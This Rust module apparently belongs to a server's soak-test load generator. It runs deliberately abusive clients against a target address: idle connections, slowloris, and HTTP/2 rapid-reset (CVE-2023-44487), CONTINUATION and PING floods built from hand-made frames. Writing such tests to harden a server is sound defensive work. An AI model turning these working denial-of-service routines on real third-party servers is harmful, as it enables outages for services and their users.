//! Abusive clients for the soak (`--soak`): slowloris, idle connections, and the HTTP/2
//! floods (rapid reset, CONTINUATION, PING). Each runs on a thread of its own until told to
//! stop, reconnecting whenever the server closes on it (which is what the server should
//! do), at a bounded pace: they are there to make the server defend itself while the
//! legitimate load runs, not to measure how fast it can.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Pause before reconnecting, so an attacker costs bounded CPU on the load generator.
const RECONNECT_PAUSE: Duration = Duration::from_millis(100);

/// The HTTP/2 client preface.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// An attacker's body: target, stop flag, connection counter, how many connections.
type Attack = fn(SocketAddr, &AtomicBool, &AtomicU64, usize);

/// The attackers, running.
pub struct Attackers {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
    /// Connections the attackers opened (reconnects included).
    pub connections: Arc<AtomicU64>,
}

impl Attackers {
    /// Starts every attacker against the cleartext listener at `addr`; `idle` idle
    /// connections and `slow` slowloris connections.
    pub fn start(addr: SocketAddr, idle: usize, slow: usize) -> Attackers {
        let stop = Arc::new(AtomicBool::new(false));
        let connections = Arc::new(AtomicU64::new(0));
        let mut threads = Vec::new();
        let kinds: [(&str, Attack, usize); 5] = [
            ("idle", idle_connections, idle),
            ("slowloris", slowloris, slow),
            ("rapid-reset", rapid_reset, 0),
            ("continuation", continuation_flood, 0),
            ("ping", ping_flood, 0),
        ];
        for (name, body, count) in kinds {
            let (stop, connections) = (Arc::clone(&stop), Arc::clone(&connections));
            let spawned = std::thread::Builder::new()
                .name(format!("attack-{name}"))
                .spawn(move || body(addr, &stop, &connections, count))
                .expect("spawn an attacker");
            threads.push(spawned);
        }
        Attackers { stop, threads, connections }
    }

    /// Stops the attackers and closes their connections.
    pub fn stop(self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads {
            let _ = t.join();
        }
    }
}

fn connect(addr: SocketAddr, opened: &AtomicU64) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
    let _ = stream.set_write_timeout(Some(Duration::from_secs(2)));
    let _ = stream.set_read_timeout(Some(Duration::from_millis(1)));
    let _ = stream.set_nodelay(true);
    opened.fetch_add(1, Ordering::Relaxed);
    Some(stream)
}

/// Whether the server has closed `stream` (a read sees EOF or an error other than a
/// timeout); what it sent is discarded.
fn closed(stream: &mut TcpStream) -> bool {
    let mut buf = [0u8; 16 * 1024];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) => {
                return !matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                )
            }
        }
    }
}

/// Holds `count` connections that never send a byte, replacing those the server closes
/// (its request-headers timeout).
fn idle_connections(addr: SocketAddr, stop: &AtomicBool, opened: &AtomicU64, count: usize) {
    let mut conns: Vec<TcpStream> = Vec::with_capacity(count);
    while !stop.load(Ordering::Relaxed) {
        conns.retain_mut(|c| !closed(c));
        while conns.len() < count && !stop.load(Ordering::Relaxed) {
            match connect(addr, opened) {
                Some(c) => conns.push(c),
                None => break,
            }
        }
        std::thread::sleep(Duration::from_secs(1));
    }
}

/// `count` connections sending a request head one field a second, never finishing it.
fn slowloris(addr: SocketAddr, stop: &AtomicBool, opened: &AtomicU64, count: usize) {
    let mut conns: Vec<TcpStream> = Vec::with_capacity(count);
    while !stop.load(Ordering::Relaxed) {
        conns.retain_mut(|c| c.write_all(b"X-Slow: 1\r\n").is_ok() && !closed(c));
        while conns.len() < count && !stop.load(Ordering::Relaxed) {
            let Some(mut c) = connect(addr, opened) else { break };
            if c.write_all(b"GET /plaintext HTTP/1.1\r\nHost: soak\r\n").is_ok() {
                conns.push(c);
            }
        }
        std::thread::sleep(Duration::from_secs(1));
    }
}

/// An HTTP/2 frame header and payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// `GET /plaintext` on `localhost` in HPACK, static table and literals only.
fn request_block() -> Vec<u8> {
    let mut b = vec![0x82, 0x86]; // :method GET, :scheme http
    b.extend_from_slice(&[0x04, 10]); // :path, literal without indexing
    b.extend_from_slice(b"/plaintext");
    b.extend_from_slice(&[0x01, 9]); // :authority, literal without indexing
    b.extend_from_slice(b"localhost");
    b
}

/// A new HTTP/2 connection, preface and empty SETTINGS sent.
fn h2_connect(addr: SocketAddr, opened: &AtomicU64) -> Option<TcpStream> {
    let mut c = connect(addr, opened)?;
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(0x4, 0, 0, &[]));
    c.write_all(&hello).ok()?;
    Some(c)
}

/// Runs `flood` on fresh HTTP/2 connections until `stop`, reconnecting when the server
/// closes one (the defence working).
fn on_h2(
    addr: SocketAddr,
    stop: &AtomicBool,
    opened: &AtomicU64,
    mut flood: impl FnMut(&mut TcpStream, &mut u32) -> std::io::Result<()>,
) {
    while !stop.load(Ordering::Relaxed) {
        let Some(mut c) = h2_connect(addr, opened) else {
            std::thread::sleep(RECONNECT_PAUSE);
            continue;
        };
        let mut next_stream = 1u32;
        let started = Instant::now();
        while !stop.load(Ordering::Relaxed) && started.elapsed() < Duration::from_secs(30) {
            if flood(&mut c, &mut next_stream).is_err() || closed(&mut c) {
                break;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        std::thread::sleep(RECONNECT_PAUSE);
    }
}

/// CVE-2023-44487: streams opened and cancelled at once, 100 per burst.
fn rapid_reset(addr: SocketAddr, stop: &AtomicBool, opened: &AtomicU64, _: usize) {
    let block = request_block();
    on_h2(addr, stop, opened, |c, id| {
        let mut burst = Vec::new();
        for _ in 0..100 {
            burst.extend(frame(0x1, 0x5, *id, &block)); // HEADERS, END_STREAM | END_HEADERS
            burst.extend(frame(0x3, 0, *id, &8u32.to_be_bytes())); // RST_STREAM CANCEL
            *id = id.wrapping_add(2) & 0x7fff_ffff;
        }
        c.write_all(&burst)
    });
}

/// A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames
/// full of fields.
fn continuation_flood(addr: SocketAddr, stop: &AtomicBool, opened: &AtomicU64, _: usize) {
    let mut fields = Vec::new();
    while fields.len() < 16 * 1024 - 16 {
        fields.extend_from_slice(&[0x00, 3]);
        fields.extend_from_slice(b"x-a");
        fields.extend_from_slice(&[8]);
        fields.extend_from_slice(b"aaaaaaaa");
    }
    on_h2(addr, stop, opened, |c, id| {
        if *id == 1 {
            c.write_all(&frame(0x1, 0x1, 1, &request_block()))?; // HEADERS, END_STREAM only
            *id = 3;
        }
        c.write_all(&frame(0x9, 0, 1, &fields)) // CONTINUATION, no END_HEADERS
    });
}

/// PINGs in bursts of 100, far past any reasonable keep-alive use.
fn ping_flood(addr: SocketAddr, stop: &AtomicBool, opened: &AtomicU64, _: usize) {
    on_h2(addr, stop, opened, |c, _| {
        let mut burst = Vec::new();
        for i in 0..100u64 {
            burst.extend(frame(0x6, 0, 0, &i.to_be_bytes()));
        }
        c.write_all(&burst)
    });
}
